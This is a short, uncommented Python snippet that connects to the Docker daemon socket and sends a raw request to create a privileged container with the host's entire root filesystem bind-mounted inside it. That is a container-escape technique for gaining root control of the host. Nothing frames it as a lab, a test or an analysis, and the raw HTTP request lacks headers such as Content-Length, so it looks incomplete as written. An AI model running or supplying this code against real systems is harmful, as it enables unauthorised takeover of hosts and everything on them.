import socket,json
s=socket.socket(socket.AF_UNIX)
s.connect('/var/run/docker.sock')
b=json.dumps({'Image':'a','HostConfig':{'Privileged':True,'Binds':['/:/h']}})
s.send(('POST /containers/create HTTP/1.1\r\n\r\n'+b).encode())
